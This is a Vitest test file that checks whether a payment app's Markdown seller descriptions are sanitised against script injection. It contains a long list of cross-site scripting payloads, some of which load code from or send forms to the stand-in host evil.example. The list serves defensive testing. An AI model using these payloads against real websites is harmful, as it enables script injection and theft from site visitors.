import { afterAll, beforeAll, expect, test } from 'vitest'
import { call, createTestForm, signUpSeller, startTestApp, type TestApp, type TestSeller } from '#test-app.ts'

let app: TestApp
let seller: TestSeller
beforeAll(async () => {
  app = await startTestApp()
  seller = await signUpSeller(app)
})
afterAll(async () => app.close())

/** Typical attacks: markup, script URLs, and Markdown that turns into either. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '</script><script>alert(1)</script>',
  '</p></div><img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg><script href=data:,alert(1) /></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><button>x</button></form>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](https://user:password@evil.example)',
  '[x](https://example.com "onmouseover=alert(1)")',
  '[x](https://example.com/"onmouseover="alert(1))',
  '[x](https://example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://example.com/a.png)',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '[x]: javascript:alert(1)\n\n[x]',
  '**<script>alert(1)</script>**',
  '- <img src=x onerror=alert(1)>',
  '`</code><script>alert(1)</script>`',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028</script><script>alert(1)</script>\u2029',
]

/** The elements and attributes in the description, as a browser parses them. */
function elementsOf(html: string) {
  const article = /<article[^]*<\/article>/.exec(html)?.[0] ?? ''
  return [...article.matchAll(/<([a-z][a-z\d]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = '', attributes = '']) => ({
      name: name.toLowerCase(),
      attributes: [...attributes.matchAll(/\s([^\s=>]+)(?:="([^"]*)")?/g)].map(
        ([, attribute = '', value = '']) => [attribute, value] as const,
      ),
    }),
  )
}

test.each(attacks)('this description cannot run code or mislead a buyer: %s', async (attack) => {
  const form = await createTestForm(app, seller, { description: attack, descriptionFormat: 'markdown' })
  const html = await (await fetch(`${app.url}/payment/${form}`)).text()
  const harmless = await createTestForm(app, seller, { description: 'x', descriptionFormat: 'markdown' })
  const own = elementsOf(await (await fetch(`${app.url}/payment/${harmless}`)).text())
  const known = new Set([...own.map(({ name }) => name), 'p', 'div', 'strong', 'em', 'ul', 'ol', 'li', 'a'])
  const elements = elementsOf(html)

  expect(elements.filter(({ name }) => !known.has(name))).toEqual([])
  expect(
    elements.flatMap(({ attributes }) => attributes.filter(([attribute]) => /^on|^srcdoc$/i.test(attribute))),
  ).toEqual([])
  for (const { name, attributes } of elements.filter((element) => element.name === 'a')) {
    const { href, target, rel } = Object.fromEntries(attributes)
    expect([name, target, rel]).toEqual(['a', '_blank', 'noopener noreferrer nofollow ugc'])
    expect(href).toMatch(/^https:\/\/example\.com\//)
  }
  expect(html.match(/<script\b/g)?.length).toBe(
    (await (await fetch(`${app.url}/payment/${harmless}`)).text()).match(/<script\b/g)?.length,
  )
})

test('the API returns a description as sent, and lists show it without Markdown', async () => {
  const description = 'Six **weeks**\n\n- of [light](https://example.com)'
  const own = await signUpSeller(app)
  const form = await createTestForm(app, own, { description, descriptionFormat: 'markdown' })

  expect((await call(app, 'GET', `/api/forms/${form}`, { token: own.token })).body).toMatchObject({
    description,
    descriptionFormat: 'markdown',
  })
  expect((await call(app, 'GET', '/api/forms', { token: own.token })).body).toMatchObject({
    data: [{ description: 'Six weeks\n\n• of light' }],
  })
  const html = await (await fetch(`${app.url}/payment/${form}`)).text()
  expect(html).toContain('<meta name="description" content="Six weeks • of light">')
  expect(html).toContain('<strong>weeks</strong>')
})

test('a description is plain text unless its format is Markdown', async () => {
  const form = await createTestForm(app, seller, { description: 'Six **weeks**' })

  expect(await (await fetch(`${app.url}/payment/${form}`)).text()).toContain('>Six **weeks**</p>')
})
